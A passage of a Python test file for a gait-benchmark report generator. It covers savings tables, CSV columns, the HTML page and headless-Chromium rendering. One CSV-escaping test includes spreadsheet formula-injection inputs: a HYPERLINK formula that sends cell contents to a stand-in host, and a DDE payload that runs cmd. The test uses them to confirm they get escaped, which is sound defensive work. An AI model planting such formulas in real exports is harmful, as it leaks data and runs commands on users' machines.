"""Reports (gaitbench/reports, `gaitbench report`): tables on hand-checked values, CSV columns, the HTML page's
figures and tables, and the page in headless Chromium (no console errors, a screenshot that is not blank)."""

from __future__ import annotations

import base64
import json
import math
import os
import queue
import shutil
import sqlite3
import subprocess
import threading
import time
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest

from gaitbench.reports import build_report, case_frame, csv_files, statistics, tables, write_report

CHROMIUM_MISSING = "chromium is not installed (Debian package chromium; .ci/run installs it)"


# --- a small real store, built once ------------------------------------------------------------------------------

@pytest.fixture(scope="session")
def store(tmp_path_factory) -> Path:
    """Forward experiment, 1 step, N = 8 and 10: OP-DC, OP-DM, D&C-DC, and a "reference" case that fails (an
    unknown IPOPT option). About 30 s."""
    from gaitbench.run.case import Case, PluginChoice
    from gaitbench.run.executors import InProcessExecutor
    from gaitbench.run.runner import run_suite

    methods = (("hermite-simpson", "one-phase", "OP-DC"), ("dmoc", "one-phase", "OP-DM"),
               ("hermite-simpson", "decrease-and-conquer", "D&C-DC"))
    cases = [Case(PluginChoice("forward"), n, PluginChoice(t), PluginChoice("ipopt"), PluginChoice(s), steps=1,
                  method=label, time_limit_s=60) for n in (8, 10) for t, s, label in methods]
    cases.append(Case(PluginChoice("forward"), 8, PluginChoice("hermite-simpson"), PluginChoice("ipopt", {"bogus": 1}),
                      PluginChoice("one-phase"), steps=1, method="reference", time_limit_s=60))
    suite = SimpleNamespace(name="tiny", path=Path("tiny.toml"), text="# tiny test suite", cases=cases)
    directory = tmp_path_factory.mktemp("store") / "tiny"
    run_suite(suite, directory, InProcessExecutor())
    return directory


@pytest.fixture(scope="session")
def report_dir(store, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("report") / "tiny"
    write_report(store, out)
    return out


# --- tables on hand-made data ------------------------------------------------------------------------------------

def _frame(rows):
    base = {"experiment_options": {}, "transcription": "hermite-simpson", "solver": "ipopt", "status": "solved",
            "message": "", "claimed_acot": None, "strategy_details": None, "cot_min": 0.1, "cot_max": 0.2,
            "wall_time_s": 1.0, "iterations": 10, "max_defect": 1e-9, "max_resim_error": 1e-6, "walk_path": None,
            "tracking_path": None, "experiment": "forward", "verified": 1}
    frame = pd.DataFrame([base | row for row in rows])
    frame["case_key"] = [f"k{i}" for i in range(len(frame))]
    return case_frame.prepare(frame)


def test_savings_formula_and_minimum_marking():
    assert tables.savings_percent(0.5, 0.1) == pytest.approx(80.0)
    # The thesis's forward D&C-DC vs OP-DC maximum: 85.41 % from 0.0695 against 0.4764 (thesis §5.2–5.5, derived table).
    assert tables.savings_percent(0.4764, 0.0695) == pytest.approx(85.41, abs=0.01)
    rows = []
    sweep = ((10, 0.40, 0.20, 0.10, 0.30), (20, 0.30, 0.15, 0.05, 0.25), (30, 0.30, 0.18, 0.09, None))
    for n, op, dc, claim, ref in sweep:
        rows.append({"method": "OP-DC", "strategy": "one-phase", "N": n, "acot": op})
        rows.append({"method": "D&C-DC", "strategy": "decrease-and-conquer", "N": n, "acot": claim,
                     "claimed_acot": claim, "strategy_details": {"claimed_acot": claim, "verified_acot": dc}})
        rows.append({"method": "reference", "strategy": "one-phase", "N": n, "acot": ref,
                     "status": "solved" if ref else "incomplete", "message": "" if ref else "step 1: failed"})
    df = _frame(rows)
    info = case_frame.method_info(df)
    assert dict(zip(info["method"], info["thesis_method"], strict=True)) == {
        "OP-DC": "OP-DC", "D&C-DC": "D&C-DC", "reference": "SNOPT"}
    acot = tables.acot_table(df)
    # D&C's verified ACOT is the polished one, its claim kept beside it.
    dc = acot[acot["method"] == "D&C-DC"].set_index("N")
    assert dc.loc[20, "acot"] == pytest.approx(0.15) and dc.loc[20, "claimed_acot"] == pytest.approx(0.05)
    # The minimum is marked once per method, at the first N reaching it (OP-DC: 0.30 at N = 20 and 30 -> 20).
    marked = acot[acot["is_minimum"]].set_index("method")["N"].to_dict()
    assert marked == {"OP-DC": 20, "D&C-DC": 20, "reference": 20}
    minima = tables.method_minima(acot, info).set_index("method")
    assert minima.loc["OP-DC", "min_acot"] == pytest.approx(0.30) and minima.loc["OP-DC", "N_at_min"] == 20
    savings = tables.savings_table(acot, info)
    vs_op = savings[savings["baseline_kind"] == "one-phase"].set_index("N")
    assert vs_op.loc[10, "savings_percent"] == pytest.approx(50.0)
    assert vs_op.loc[30, "savings_percent"] == pytest.approx(40.0)
    assert vs_op.loc[20, "claimed_savings_percent"] == pytest.approx(100 * (0.30 - 0.05) / 0.30)
    vs_ref = savings[savings["baseline_kind"] == "reference"].set_index("N")
    assert vs_ref.loc[10, "savings_percent"] == pytest.approx(100 * (0.30 - 0.20) / 0.30)
    assert math.isnan(vs_ref.loc[30, "savings_percent"])  # the reference failed at N = 30
    published = tables.published_comparison(minima.reset_index()).set_index("thesis_method")
    assert published.loc["D&C-DC", "published_acot"] == 0.0695 and published.loc["D&C-DC", "published_N"] == 90
    assert published.loc["D&C-DC", "difference"] == pytest.approx(0.15 - 0.0695)
    assert published.loc["SNOPT", "method"] == "reference"
    failed = tables.failed_cases(df)
    assert list(failed["message"]) == ["step 1: failed"] and list(failed["N"]) == [30]


def test_energetics_table_and_figures():
    rows = [{"experiment": "energetics", "method": "D&C-DC", "strategy": "one-phase", "N": 10, "acot": 0.1 + d * rm,
             "experiment_options": {"mass_ratio": rm, "length_ratio": 0.3, "speed": 0.4, "step_length": d,
                                    "slope": 0}} for rm in (0.3, 0.5) for d in (0.5, 0.8)]
    df = _frame(rows)
    table = tables.energetics_table(df)
    assert list(table.columns) == tables.ENERGETICS_COLUMNS and len(table) == 4
    assert case_frame.experiments(df) == []  # the study is not an ACOT-vs-N sweep
    from gaitbench.reports.figures import energetics_figures

    assert [figure.id for figure in energetics_figures(table)] == ["fig-energetics-rm"]


def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_numbers_stay_numbers(tmp_path):
    import csv

    label = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    df = _frame([{"method": label, "strategy": "one-phase", "N": 10, "acot": 0.25, "wall_time_s": 2.5},
                 {"method": "@SUM(1+1)", "strategy": "one-phase", "N": 10, "acot": None, "status": "incomplete",
                  "message": "-1+cmd|' /C calc'!A0"}])
    numbers = pd.DataFrame({"label": ["-0.5", "+x"], "value": [-0.125, 2.0]})
    written = csv_files.write_csv({"acot": tables.acot_table(df), "failed_cases": tables.failed_cases(df),
                                "numbers": numbers}, tmp_path)

    with open(written[0], newline="") as file:
        acot = {row["method"]: row for row in csv.DictReader(file)}
    assert set(acot) == {"'" + label, "'@SUM(1+1)"}
    assert float(acot["'" + label]["wall_time_s"]) == 2.5
    with open(written[1], newline="") as file:
        (failed,) = csv.DictReader(file)
    assert failed["message"] == "'-1+cmd|' /C calc'!A0"
    with open(written[2], newline="") as file:
        assert list(csv.reader(file)) == [["label", "value"], ["-0.5", "-0.125"], ["'+x", "2.0"]]
    assert numbers["label"].tolist() == ["-0.5", "+x"]  # the table itself is left as it was


# --- the report of a real store ----------------------------------------------------------------------------------

DOCUMENTED_CSV = {
    "acot": tables.ACOT_COLUMNS, "acot_minima": tables.MINIMA_COLUMNS, "cot_bounds": tables.COT_BOUNDS_COLUMNS,
    "acot_spread": statistics.SPREAD_COLUMNS, "savings": tables.SAVINGS_COLUMNS,
    "savings_paired": statistics.PAIRED_SAVINGS_COLUMNS, "consistency": statistics.CONSISTENCY_COLUMNS,
    "published_acot": tables.PUBLISHED_COLUMNS,
    "published_savings": tables.PUBLISHED_SAVINGS_COLUMNS + statistics.PUBLISHED_SAVINGS_CI_COLUMNS,
    "dc_claims": tables.DC_CLAIMS_COLUMNS,
    "energetics": tables.ENERGETICS_COLUMNS, "tracking": tables.TRACKING_COLUMNS,
    "stop_causes": tables.STOP_CAUSE_COLUMNS, "failed_cases": tables.FAILED_COLUMNS,
    "provenance": tables.PROVENANCE_COLUMNS, "cases": tables.CASES_COLUMNS,
}


def test_csv_files_have_their_documented_columns(report_dir):
    docs = (Path(__file__).parents[1] / "docs" / "reports.md").read_text()
    for name, columns in DOCUMENTED_CSV.items():
        frame = pd.read_csv(report_dir / f"{name}.csv")
        assert list(frame.columns) == columns, name
        assert f"`{name}.csv`" in docs, f"{name}.csv is not documented"
        for column in columns:
            assert f"`{column}`" in docs, f"column {column} of {name}.csv is not documented"
    acot = pd.read_csv(report_dir / "acot.csv")
    assert set(acot["method"]) == {"OP-DC", "OP-DM", "D&C-DC", "reference"}
    assert acot.groupby("method")["is_minimum"].sum().drop("reference").eq(1).all()
    savings = pd.read_csv(report_dir / "savings.csv")
    vs_op = savings[savings["baseline_kind"] == "one-phase"]
    assert sorted(vs_op["N"]) == [8, 10]
    expected = 100 * (vs_op["baseline_acot"] - vs_op["acot"]) / vs_op["baseline_acot"]
    assert np.allclose(vs_op["savings_percent"], expected)
    paired = pd.read_csv(report_dir / "savings_paired.csv").set_index(["method", "baseline"])
    pair = paired.loc[("D&C-DC", "OP-DC")]
    assert pair["pairs"] == 2 and pair["median_percent"] == pytest.approx(vs_op["savings_percent"].median())
    assert np.isnan(pair["median_ci_low"]) and np.isnan(pair["median_ci_high"])  # two pairs: too few for an interval
    assert paired.loc[("D&C-DC", "reference"), "pairs"] == 0  # the reference never completed a walk
    spread = pd.read_csv(report_dir / "acot_spread.csv")
    walked = spread.dropna(subset=["acot"])  # the reference's failed walk has no ACOT and no spread
    assert (walked["spread_low"] <= walked["acot"]).all() and (walked["acot"] <= walked["spread_high"]).all()
    assert spread["spread_low"].isna().sum() == 1
    failed = pd.read_csv(report_dir / "failed_cases.csv")
    assert list(failed["method"]) == ["reference"] and list(failed["status"]) != ["solved"]
    assert isinstance(failed["message"].iloc[0], str) and failed["message"].iloc[0].strip()
    causes = pd.read_csv(report_dir / "stop_causes.csv").set_index("method")
    # The unknown IPOPT option: the solver's own status `error` at step 1, a solver stop (the case did not raise).
    reference = causes.loc["reference"]
    assert (reference["stop_cause"], int(reference["stop_steps"]), reference["stop_statuses"]) == ("solver", 1, "error")
    assert (causes.drop("reference")["stop_cause"] == "complete").all()
    assert causes.drop("reference")["cases"].tolist() == [2, 2, 2]


def test_html_contains_every_figure_and_table(report_dir, store):
    html = (report_dir / "index.html").read_text()
    for element in ("fig-acot-forward", "fig-completion-forward", "fig-cot-bounds-forward", "fig-savings-forward",
                    "tbl-minima-forward", "tbl-acot-forward", "tbl-savings-forward", "tbl-stop-causes-forward",
                    "tbl-savings-paired-forward", 'id="consistency"', "tbl-consistency",
                    "tbl-stop-causes", "tbl-published-acot", "tbl-published-savings",
                    "tbl-dc-claims", "tbl-failed", "tbl-provenance", 'id="gaits"', "fig-gait-angles-",
                    "fig-gait-velocities-", "fig-gait-torques-", "fig-gait-grf-", "fig-gait-push-off-",
                    "fig-animation-", "svg.stick-figure", "# tiny test suite"):
        assert element in html, element
    assert "data:image/svg+xml;base64," in html
    assert "http://" not in html.replace("http://www.w3.org/2000/svg", "")  # self-contained: no network
    for figure in ("fig-acot-forward-1-step", "fig-savings-forward-1-step"):  # the store walks 1 step of 11
        assert (report_dir / "figures" / f"{figure}.svg").is_file()
    failed = pd.read_csv(report_dir / "failed_cases.csv")
    assert failed["message"].iloc[0].split(":")[0] in html  # the failed case's reason is listed
    assert "claimed ACOT" in html and "verified ACOT" in html


def test_gait_choice_and_dc_claims(store):
    report = build_report(store)
    df = report.cases
    solved = df[df["status"] == "solved"]
    assert [section.gait.case_key for section in report.gaits] == [solved.loc[solved["acot"].idxmin(), "case_key"]]
    dc_key = df[df["is_dc"]]["case_key"].iloc[0]
    chosen = build_report(store, gait=dc_key[:8])
    (section,) = chosen.gaits
    assert section.dc_claim is not None and section.gait.steps[0].reaction is not None
    assert any("patchwork" in note for note in section.gait.notes)
    claims = report.tables["dc_claims"]
    assert set(claims["case_key"]) == set(df[df["is_dc"]]["case_key"])
    # whether the walk is ranked is its whole-walk verdict, beside the ACOT of its reported motions
    ranked = df.set_index("case_key")["ranked"]
    assert all(row.ranked == bool(ranked[row.case_key]) for row in claims.itertuples())
    from gaitbench.reports import ReportError

    with pytest.raises(ReportError, match="not a case"):
        build_report(store, gait="zzzz")


def test_a_dc_gait_shows_its_verified_trajectory_with_the_patchwork_over_it(store):
    """The store's D&C walks keep their polished trajectories: the gait figures draw those (with a dynamics residual
    of a solution), the chosen patchwork dashed over them, and the step table gives both."""
    report = build_report(store)
    df = report.cases
    key = df[df["is_dc"]]["case_key"].iloc[0]
    (section,) = build_report(store, gait=key).gaits
    gait = section.gait
    assert gait.trajectory == "polished" and len(gait.overlay) == len(gait.steps) == 1
    assert gait.steps[0].max_defect < 1e-6 < gait.overlay[0].max_defect  # a solution, and the patchwork
    walk = json.loads((store / df.set_index("case_key").loc[key, "walk_path"]).read_text())
    assert gait.steps[0].cot == pytest.approx(walk["steps"][0]["details"]["polished"]["cot"])
    assert gait.overlay[0].cot == pytest.approx(walk["steps"][0]["cot"])  # the claim
    assert gait.acot == pytest.approx(walk["strategy_details"]["verified_acot"])
    assert any("verified trajectory" in note and "dashed" in note for note in gait.notes)
    angles = next(figure for figure in section.figures if figure.id.startswith("fig-gait-angles-"))
    assert "chosen patchwork (claimed)" in angles.svg and "Solid: the reported trajectory" in angles.caption
    from gaitbench.reports.html import HtmlReporter

    page = HtmlReporter().write(build_report(store, gait=key), store.parent / "dc-page")[-1].read_text()
    assert "claimed COT (patchwork)" in page and "shown: the reported (polished or stand-in) trajectory" in page


def test_a_dc_walk_stored_without_its_polished_trajectory_shows_the_patchwork(store, tmp_path):
    """A store written before the polished trajectories were kept (or with polish = false): the patchwork, said so."""
    copy = tmp_path / "older"
    shutil.copytree(store, copy)
    with sqlite3.connect(copy / "results.sqlite") as db:
        key, walk_path = db.execute("SELECT case_key, walk_path FROM cases WHERE method = 'D&C-DC'").fetchone()
    npz = (copy / walk_path).with_suffix(".npz")
    with np.load(npz) as arrays:
        kept = {name: arrays[name] for name in arrays.files if "_polished_" not in name}
    np.savez_compressed(npz, **kept)
    (section,) = build_report(copy, gait=key).gaits
    assert section.gait.trajectory == "walk" and section.gait.overlay == []
    assert section.gait.steps[0].max_defect > 1e-6  # the patchwork
    assert any("does not hold for every step" in note for note in section.gait.notes)


def test_a_dc_step_whose_polish_failed_says_which_trajectory_stands_in(store, tmp_path):
    copy = tmp_path / "stand-in"
    shutil.copytree(store, copy)
    with sqlite3.connect(copy / "results.sqlite") as db:
        key, walk_path = db.execute("SELECT case_key, walk_path FROM cases WHERE method = 'D&C-DC'").fetchone()
    walk = json.loads((copy / walk_path).read_text())
    walk["steps"][0]["details"]["polished"] |= {"stand_in": "complete", "why": "the polish failed (infeasible)"}
    (copy / walk_path).write_text(json.dumps(walk))
    (section,) = build_report(copy, gait=key).gaits
    assert any(note.startswith("Step 1: the complete Second Phase solution") and
               note.endswith("stands in for the polish: the polish failed (infeasible).")
               for note in section.gait.notes)
    (section,) = build_report(store, gait=key).gaits
    assert not any("the polish failed (infeasible)" in note for note in section.gait.notes)


def test_tracking_section_from_track_files(store, tmp_path):
    """A synthetic track.json/npz in the format of gaitbench.control.results.TrackingResult.save."""
    copy = tmp_path / "tracked"
    shutil.copytree(store, copy)
    with sqlite3.connect(copy / "results.sqlite") as db:
        (key, walk_path) = db.execute("SELECT case_key, walk_path FROM cases WHERE method = 'D&C-DC' AND N = 10"
                                      ).fetchone()
        track_path = walk_path.replace("walk.json", "track.json")
        db.execute("UPDATE cases SET tracking_path = ?, max_position_error = 1e-4, acot_tracked = 0.0101, "
                   "acot_increase_percent = 1.0, fell = 0 WHERE case_key = ?", (track_path, key))
    t = np.linspace(0, 0.7343, 50)
    q_d = np.c_[0.2 - 0.5 * t, -0.2 + 0.6 * t]
    series = {"t": t, "step": np.ones_like(t), "q_desired": q_d, "q": q_d + 1e-4, "dq_desired": q_d,
              "dq": q_d, "dq_estimated": q_d + 1e-4, "tau": q_d, "disturbance": q_d, "disturbance_estimated": q_d}
    np.savez_compressed(copy / track_path.replace(".json", ".npz"), **series)
    summary = {"max_position_error": 1e-4, "max_velocity_error": 1e-4, "acot_reference": 0.01,
               "acot_tracked": 0.0101, "acot_increase_percent": 1.0, "fell": False, "fall": None,
               "steps": [{"index": 1}], "series": "track.npz"}
    (copy / track_path).write_text(json.dumps(summary))
    out = write_report(copy, tmp_path / "out")
    html = out.read_text()
    for element in ('id="tracking"', "tbl-tracking", "fig-track-angles-", "fig-track-errors-", "fig-track-acot-"):
        assert element in html, element
    tracking = pd.read_csv(tmp_path / "out" / "tracking.csv")
    assert tracking["acot_increase_percent"].iloc[0] == pytest.approx(1.0)
    assert tracking["acot_reference"].iloc[0] == pytest.approx(0.01)


def test_report_command(store, tmp_path):
    from click.testing import CliRunner

    from gaitbench.cli.main import main

    result = CliRunner().invoke(main, ["report", str(store), "--out", str(tmp_path / "r"), "--reporter", "csv"])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "r" / "acot.csv").is_file() and not (tmp_path / "r" / "index.html").exists()
    result = CliRunner().invoke(main, ["report", str(tmp_path / "nowhere"), "--out", str(tmp_path / "x")])
    assert result.exit_code != 0 and "no results store" in result.output


def test_the_report_command_runs_a_reporter_from_a_plugin_directory(store, tmp_path):
    """`--plugins-dir` reaches `gaitbench report` as it reaches every other command."""
    from click.testing import CliRunner

    from gaitbench.cli.main import main

    plugins = tmp_path / "plugins"
    plugins.mkdir()
    (plugins / "count_reporter.py").write_text(
        "from pathlib import Path\n\nfrom gaitbench import Registration, hookimpl\n\n\n"
        "class Count:\n    def write(self, report, out_dir):\n        path = Path(out_dir) / 'count.txt'\n"
        "        path.write_text(str(len(report.cases)))\n        return [path]\n\n\n"
        "@hookimpl\ndef register_reporters():\n    return [Registration('count', 'cases', Count)]\n")
    result = CliRunner().invoke(main, ["--plugins-dir", str(plugins), "report", str(store), "--out",
                                       str(tmp_path / "r"), "--reporter", "count"])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "r" / "count.txt").read_text() == str(len(build_report(store).cases))


def test_writing_a_report_tells_its_progress(store, tmp_path):
    """Each part as it starts (the store, each experiment's figures, each gait, each reporter), then the end."""
    calls = []
    write_report(store, tmp_path / "out", progress=lambda what, done, total: calls.append((what, done, total)))
    parts = [what for what, _, _ in calls]
    assert parts[0] == "reading the store" and parts[-1] == "done"
    assert "figures of forward [1 step]" in parts and any(part.startswith("gait of forward") for part in parts)
    assert parts.index("writing csv") < parts.index("writing html")
    assert [done for _, done, _ in calls] == list(range(len(calls)))
    assert all(done <= total for _, done, total in calls) and calls[-1][1] == calls[-1][2]


def test_the_report_command_shows_a_progress_bar(store, tmp_path):
    import io

    from rich.console import Console

    from gaitbench.cli.report_command import write_with_progress

    screen = io.StringIO()
    index = write_with_progress(store, tmp_path / "out", Console(file=screen, force_terminal=True, width=100))
    assert index == tmp_path / "out" / "index.html" and index.is_file()
    shown = screen.getvalue()
    assert "report" in shown and "writing html" in shown and "/" in shown  # the part, and parts done of all


# --- headless Chromium -------------------------------------------------------------------------------------------

class DevTools:
    """Chromium's DevTools protocol over ``--remote-debugging-pipe`` (fd 3: commands in, fd 4: replies out,
    messages separated by NUL bytes): console errors and exceptions arrive as events, which is precise where
    ``--enable-logging`` only prints every console message at one level."""

    def __init__(self, browser: str, user_data: Path) -> None:
        to_browser, self._write = os.pipe()
        self._read, from_browser = os.pipe()

        def wire() -> None:
            os.dup2(to_browser, 3)
            os.dup2(from_browser, 4)

        self.process = subprocess.Popen(
            [browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
             "--disable-background-networking", "--disable-component-update", "--disable-sync",
             f"--user-data-dir={user_data}", "--remote-debugging-pipe", "about:blank"],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            preexec_fn=wire, close_fds=False)
        os.close(to_browser)
        os.close(from_browser)
        self._messages: queue.Queue = queue.Queue()
        self._next = 0
        self.events: list[dict] = []
        threading.Thread(target=self._reader, daemon=True).start()

    def _reader(self) -> None:
        buffer = b""
        while chunk := os.read(self._read, 65536):
            buffer += chunk
            *complete, buffer = buffer.split(b"\0")
            for message in complete:
                self._messages.put(json.loads(message))

    def send(self, method: str, params: dict | None = None, session: str | None = None, timeout: float = 30):
        self._next += 1
        message = {"id": self._next, "method": method, "params": params or {}}
        if session:
            message["sessionId"] = session
        os.write(self._write, json.dumps(message).encode() + b"\0")
        deadline = time.monotonic() + timeout
        while True:
            reply = self._messages.get(timeout=max(0.01, deadline - time.monotonic()))
            if reply.get("id") == self._next:
                if "error" in reply:
                    raise RuntimeError(f"{method}: {reply['error']}")
                return reply.get("result", {})
            self.events.append(reply)

    def wait_for(self, event: str, timeout: float = 30) -> None:
        deadline = time.monotonic() + timeout
        while not any(e.get("method") == event for e in self.events):
            self.events.append(self._messages.get(timeout=max(0.01, deadline - time.monotonic())))

    def drain(self, seconds: float) -> None:
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            try:
                self.events.append(self._messages.get(timeout=0.05))
            except queue.Empty:
                continue

    def close(self) -> None:
        try:
            self.send("Browser.close", timeout=5)
        except Exception:
            pass
        try:
            self.process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()
        os.close(self._write)


def console_errors(events: list[dict]) -> list[str]:
    errors = []
    for event in events:
        method, params = event.get("method"), event.get("params", {})
        if method == "Runtime.exceptionThrown":
            details = params.get("exceptionDetails", {})
            errors.append(details.get("exception", {}).get("description") or details.get("text", "exception"))
        elif method == "Runtime.consoleAPICalled" and params.get("type") in ("error", "assert"):
            errors.append(" ".join(str(arg.get("value", arg.get("description"))) for arg in params.get("args", [])))
        elif method == "Log.entryAdded" and params.get("entry", {}).get("level") == "error":
            errors.append(params["entry"].get("text", ""))
    return errors


def open_in_chromium(page: Path, tmp_path: Path) -> tuple[list[str], bytes]:
    """Load ``page`` in headless Chromium at 1280×2000; its console errors and a PNG screenshot."""
    browser = shutil.which("chromium")
    if browser is None:
        pytest.skip(CHROMIUM_MISSING)
    tools = DevTools(browser, tmp_path / "chromium-profile")
    try:
        target = tools.send("Target.createTarget", {"url": "about:blank"})["targetId"]
        session = tools.send("Target.attachToTarget", {"targetId": target, "flatten": True})["sessionId"]
        for domain in ("Runtime.enable", "Log.enable", "Page.enable"):
            tools.send(domain, session=session)
        tools.send("Emulation.setDeviceMetricsOverride",
                   {"width": 1280, "height": 2000, "deviceScaleFactor": 1, "mobile": False}, session=session)
        tools.send("Page.navigate", {"url": page.resolve().as_uri()}, session=session)
        tools.wait_for("Page.loadEventFired")
        tools.drain(1.0)  # let the animation run a few frames
        png = base64.b64decode(tools.send("Page.captureScreenshot", {"format": "png"}, session=session)["data"])
    finally:
        tools.close()
    return console_errors(tools.events), png


OVERFLOWING_TABLES = """Array.from(document.querySelectorAll("table")).filter(function (table) {
  return table.scrollWidth > table.clientWidth + 1
    || table.getBoundingClientRect().right > document.documentElement.clientWidth + 1;
}).map(function (table) { return table.id || table.className; })"""
"""The tables of a page that overflow it or scroll inside themselves."""


def evaluate_in_chromium(page: Path, tmp_path: Path, width: int, expression: str):
    """The value of a JavaScript expression on ``page`` loaded in headless Chromium ``width`` pixels wide."""
    browser = shutil.which("chromium")
    if browser is None:
        pytest.skip(CHROMIUM_MISSING)
    tools = DevTools(browser, tmp_path / f"chromium-profile-{width}")
    try:
        target = tools.send("Target.createTarget", {"url": "about:blank"})["targetId"]
        session = tools.send("Target.attachToTarget", {"targetId": target, "flatten": True})["sessionId"]
        tools.send("Page.enable", session=session)
        tools.send("Emulation.setDeviceMetricsOverride",
                   {"width": width, "height": 1000, "deviceScaleFactor": 1, "mobile": False}, session=session)
        tools.send("Page.navigate", {"url": page.resolve().as_uri()}, session=session)
        tools.wait_for("Page.loadEventFired")
        return tools.send("Runtime.evaluate", {"expression": expression, "returnByValue": True},
                          session=session)["result"]["value"]
    finally:
        tools.close()


@pytest.mark.parametrize("width", [1280, 900])
def test_wide_tables_wrap_within_the_page(report_dir, tmp_path, width):
    """Every table fits the page, at a laptop's width and a narrow window's: cells wrap, nothing scrolls sideways."""
    assert evaluate_in_chromium(report_dir / "index.html", tmp_path, width, OVERFLOWING_TABLES) == []
    assert evaluate_in_chromium(report_dir / "index.html", tmp_path, width,
                                "document.documentElement.scrollWidth <= document.documentElement.clientWidth")


def test_html_headers_are_words_and_the_csv_keeps_the_column_names(report_dir):
    """Headers read "claimed ACOT at min", not claimed_acot_at_min; each names its CSV column in its tooltip, and
    the CSV files keep the names docs/reports.md documents."""
    import re

    from gaitbench.reports.html import header

    assert header("claimed_acot_at_min") == "claimed ACOT at min"
    assert header("wall_time_s") == "wall time (s)" and header("min_vs_min_percent") == "min vs min (%)"
    assert header("is_minimum") == "minimum" and header("thesis_push_off_bound_acot") == "thesis push-off bound ACOT"
    html = (report_dir / "index.html").read_text()
    headers = re.findall(r'<th title="([^"]*)">([^<]*)</th>', html)
    assert ("claimed_acot_at_min", "claimed ACOT at min") in headers
    assert all(text == header(column) and "_" not in text for column, text in headers)
    assert "claimed_acot_at_min" in pd.read_csv(report_dir / "acot_minima.csv").columns
    assert not re.search(r"<th>[^<]*_", html)  # the step tables written in the template too


def test_empty_tables_say_why(store, report_dir, tmp_path):
    """The demo's four savings tables used to read "(no rows)": a store without decrease and conquer says so."""
    html = (report_dir / "index.html").read_text()
    assert "(no rows)" not in html and "No rows." not in html  # every empty table of this store has its reason
    assert "Nothing to check: no method has both a verified walk at N = 40–90" in html  # N = 8 and 10 only
    copy = tmp_path / "no-dc"
    shutil.copytree(store, copy)
    with sqlite3.connect(copy / "results.sqlite") as db:
        db.execute("DELETE FROM cases WHERE strategy = 'decrease-and-conquer'")
    page = write_report(copy, tmp_path / "no-dc-report").read_text()
    reason = "No decrease-and-conquer method in this store for this experiment"
    assert page.count(reason) == 2  # the paired savings and the savings at each N
    assert 'id="tbl-savings-forward-1-step">' + reason in page


def test_empty_cells_show_a_dash(report_dir):
    from gaitbench.reports.html import format_value

    assert {format_value(value) for value in (None, math.nan, pd.NA, pd.NaT, np.nan)} == {"—"}
    html = (report_dir / "index.html").read_text()
    assert "&lt;NA&gt;" not in html and "<NA>" not in html and ">nan<" not in html


def test_a_shortened_walk_is_its_own_experiment_and_never_set_against_the_thesis(store, report_dir, tmp_path):
    """The store walks 1 of the forward experiment's 11 steps: its rows are labelled so, and the thesis's
    whole-walk figures meet none of them. The same rows as whole walks are compared."""
    assert set(pd.read_csv(report_dir / "acot.csv")["experiment"]) == {"forward [1 step]"}
    assert pd.read_csv(report_dir / "published_acot.csv").empty
    assert pd.read_csv(report_dir / "published_savings.csv").empty
    whole = tmp_path / "whole"
    shutil.copytree(store, whole)
    with sqlite3.connect(whole / "results.sqlite") as db:
        db.execute("UPDATE cases SET steps = NULL")
    published = build_report(whole).tables["published_savings"]
    assert set(published["experiment"]) == {"forward"}
    assert published["min_N"].isna().any()  # the reference's rows have none: the page shows them as "—"


def test_legends_stay_off_the_data_and_the_labels(store, monkeypatch):
    """Every figure of a report, drawn: no legend overlaps an axes' data area, its tick labels, axis labels or
    title (the savings figure's legend used to hide its y label)."""
    from matplotlib.transforms import Bbox

    from gaitbench.reports import figures, gait

    checked, problems = [], []
    render = figures.render

    def check(fig):
        fig.canvas.draw()
        renderer = fig.canvas.get_renderer()
        legends = list(fig.legends) + [ax.get_legend() for ax in fig.axes if ax.get_legend() is not None]
        for ax in fig.axes:
            parts = {"data": ax.get_window_extent(renderer), "x label": ax.xaxis.label.get_window_extent(renderer),
                     "y label": ax.yaxis.label.get_window_extent(renderer),
                     "title": ax.title.get_window_extent(renderer)}
            for number, label in enumerate(ax.get_xticklabels() + ax.get_yticklabels()):
                if label.get_visible() and label.get_text():
                    parts[f"tick label {number}"] = label.get_window_extent(renderer)
            for legend in legends:
                box = legend.get_window_extent(renderer)
                for name, part in parts.items():
                    overlap = Bbox.intersection(box, part)
                    if overlap is not None and overlap.width * overlap.height > 1:
                        problems.append(f"{ax.get_title() or fig.axes.index(ax)}: legend over the {name}")
        checked.append(fig)
        return render(fig)

    monkeypatch.setattr(figures, "render", check)
    monkeypatch.setattr(gait, "render", check)
    build_report(store, gait=build_report(store).cases.query("is_dc")["case_key"].iloc[0])
    t = np.linspace(0, 0.7, 30)
    q = np.c_[0.2 - 0.5 * t, -0.2 + 0.6 * t]
    figures.tracking_figures("k", "forward", {"t": t, "q": q, "q_desired": q + 1e-4, "dq": q, "dq_estimated": q},
                             {"acot_reference": 0.1, "acot_tracked": 0.2, "acot_increase_percent": 100.0})
    assert len(checked) >= 10 and any(len(fig.axes) > 1 or fig.legends for fig in checked)
    assert problems == []


def test_console_errors_are_caught(tmp_path):
    """The check itself: a page with a console.error and an uncaught exception fails it."""
    page = tmp_path / "bad.html"
    page.write_text('<html><body><p>x</p><script>console.error("boom"); undefinedFunction();</script></body></html>')
    errors, _ = open_in_chromium(page, tmp_path)
    assert any("boom" in error for error in errors) and any("undefinedFunction" in error for error in errors)


def test_report_opens_in_headless_chromium(report_dir, tmp_path):
    errors, png = open_in_chromium(report_dir / "index.html", tmp_path)
    assert errors == []
    shot = tmp_path / "report.png"
    shot.write_bytes(png)
    from PIL import Image

    pixels = np.asarray(Image.open(shot).convert("L"), dtype=float)
    assert pixels.shape == (2000, 1280)
    assert pixels.std() > 10  # not blank: text, figures and tables on white
    assert (pixels < 128).mean() > 0.01


# --- complete walks only: a synthetic store with partial walks ----------------------------------------------------

def _synthetic_store(directory: Path) -> Path:
    """Forward, OP-DC at N = 8 (a complete walk, ACOT 0.30, and a partial one whose solved step costs 0.01) and N = 10
    (only a partial walk), OP-DM complete at both; one row stored before stop causes were recorded."""
    from gaitbench.run.store import ResultStore

    base = {"suite": "synthetic", "run_id": "r1", "experiment": "forward", "experiment_options": {}, "steps": None,
